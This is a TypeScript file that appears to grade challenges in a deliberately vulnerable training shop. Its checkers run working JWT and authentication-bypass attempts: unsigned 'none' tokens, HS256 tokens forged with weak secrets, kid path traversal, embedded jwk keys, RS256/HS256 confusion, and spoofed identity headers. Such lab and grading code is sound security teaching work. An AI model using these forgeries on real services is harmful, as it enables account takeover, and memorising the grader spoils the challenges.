import { createHmac } from 'node:crypto';
import {
  readMemberProfile,
  anyReply,
  privateReads,
  changesState,
  isOk,
  loginAttempt,
  replyContains,
  type Challenge,
  type Attempt,
} from './challenge.ts';

const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
/** A token that was signed with something else than the secret. */
function forged(sub: string, header: object, key?: string | Buffer): string {
  const now = Math.floor(Date.now() / 1_000);
  const claims = { sub, ver: 0, iat: now, exp: now + 9_999, iss: 'homechef-market', aud: 'homechef-market' };
  const body = `${part({ typ: 'JWT', ...header })}.${part(claims)}`;
  return `${body}.${key === undefined ? '' : createHmac('sha256', key).update(body).digest('base64url')}`;
}

const addressed = (headers: Record<string, string>): Attempt[] => [
  ['get', '/api/users/profile', { headers }],
  ['get', '/api/users', { headers }],
  ['get', '/api/orders', { headers }],
];

/** What is shown in place of a password. */
export const tokens: readonly Challenge[] = [
  {
    name: 'Unsigned JWT',
    attack: 'show a token that says it needs no signature',
    successSign: 'an answer as that account',
    isSolved: (shop) => {
      const none = ['none', 'None', 'NONE', 'nOnE', ''].map((alg) => forged(shop.admin._id, { alg }));
      return anyReply(shop, none.flatMap(privateReads), isOk);
    },
  },
  {
    name: 'Forged Signed JWT',
    attack: 'sign a token with what anybody knows: words of the product, its description, a weak secret',
    successSign: 'an answer as that account',
    isSolved: async (shop) => {
      const { market, admin } = shop;
      const { text } = await market.call('get', '/api/openapi.json');
      const keys = [
        '',
        'secret',
        'homechef-market',
        'HomeChef Market',
        'x'.repeat(32),
        '\0',
        'undefined',
        text,
        admin._id,
      ];
      const signed = keys.map((key) => forged(admin._id, { alg: 'HS256' }, key));
      const named = forged(admin._id, { alg: 'HS256', kid: '../../../dev/null' }, '');
      const brought = forged(admin._id, { alg: 'HS256', jwk: { kty: 'oct', k: 'eA' } }, 'x');
      const asymmetric = forged(admin._id, { alg: 'RS256' }, text);
      return anyReply(shop, [...signed, named, brought, asymmetric].flatMap(privateReads), isOk);
    },
  },
  {
    name: 'Login CISO',
    attack: 'name the account in a header, as a server behind another one might believe',
    successSign: 'an answer as that account',
    isSolved: (shop) => {
      const { email, _id } = shop.admin;
      const headers = [
        'X-User-Email',
        'X-User',
        'X-Forwarded-User',
        'X-Forwarded-Email',
        'X-Remote-User',
        'X-Original-User',
      ];
      const tries = headers.flatMap((name) => [
        ...addressed({ [name]: email }),
        ...addressed({ [name]: _id }),
      ]);
      const basic = Buffer.from(`${email}:`).toString('base64');
      const others = [`Basic ${basic}`, `Bearer ${_id}`, 'Bearer undefined', 'Bearer null', `Token ${_id}`];
      const signIn = loginAttempt(shop.member.email, 'wrong words', { 'X-User-Email': email });
      return anyReply(
        shop,
        [...tries, ...others.flatMap((Authorization) => addressed({ Authorization })), signIn],
        isOk,
      );
    },
  },
  {
    name: 'Two Factor Authentication',
    attack: 'look for what would let one sign in as somebody in their answers',
    successSign: 'a hash, a version of the token, a secret',
    isSolved: async (shop) => {
      const tokens = [shop.admin.token, shop.thief.token];
      const paths = ['/api/users', '/api/users/profile', '/api/orders', '/api/products?drafts=1'];
      const tries = tokens.flatMap((token) => paths.map((path): Attempt => ['get', path, { token }]));
      const isThere = await anyReply(shop, tries, replyContains(/password|tokenVersion|\$2b\$|secret/i));
      return isThere || (await changesState(shop, tries, readMemberProfile));
    },
  },
];
